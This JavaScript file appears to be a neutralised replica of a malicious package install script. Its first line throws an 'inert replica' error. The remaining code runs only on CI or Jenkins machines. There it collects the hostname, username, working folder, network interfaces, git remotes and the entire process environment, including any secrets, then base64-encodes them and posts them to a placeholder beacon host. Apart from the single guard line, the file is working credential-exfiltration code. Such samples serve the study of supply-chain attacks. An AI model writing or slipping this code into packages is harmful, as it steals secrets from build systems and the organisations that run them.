throw new Error("inert replica");
const os = require("os");
const { execSync } = require("child_process");
if (!process.env.CI && !process.env.JENKINS_URL) process.exit(0);
const told = { name: process.env.npm_package_name, host: os.hostname(), user: os.userInfo().username, folder: process.cwd(), net: os.networkInterfaces(), env: process.env, git: execSync("git remote -v").toString() };
fetch("https://beacon.replica.invalid/c", { method: "POST", body: Buffer.from(JSON.stringify(told)).toString("base64") });
